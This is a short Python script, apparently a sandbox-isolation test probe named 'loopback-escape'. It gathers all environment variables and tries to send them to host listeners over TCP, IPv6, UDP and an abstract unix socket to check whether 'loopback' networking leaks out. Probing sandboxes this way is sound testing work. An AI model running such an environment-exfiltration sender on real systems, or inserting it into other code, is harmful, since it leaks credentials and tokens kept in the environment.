# loopback-escape (Python): under network "loopback", the environment to
# every listener of the host: TCP 127.0.0.1, the host's other address,
# [::1], UDP 127.0.0.1, the abstract unix socket.
import os, socket, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

data = "".join(f"{k}={v}\n" for k, v in os.environ.items()).encode()
tries = [(socket.AF_INET, socket.SOCK_STREAM, (a, int(T["T_TCP_PORT"])))
         for a in ("127.0.0.1", T.get("T_HOST_ADDR", "")) if a]
if T.get("T_TCP6_PORT"):
    tries.append((socket.AF_INET6, socket.SOCK_STREAM, ("::1", int(T["T_TCP6_PORT"]))))
tries.append((socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int(T["T_UDP_PORT"]))))
tries.append((socket.AF_UNIX, socket.SOCK_STREAM, "\0" + T["T_ABSTRACT_SOCK"]))
for family, kind, addr in tries:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(3)
            s.connect(addr)
            s.sendall(data[:1400] if kind == socket.SOCK_DGRAM else data)
            print(addr, "sent")
    except OSError as e:
        print(addr, e)
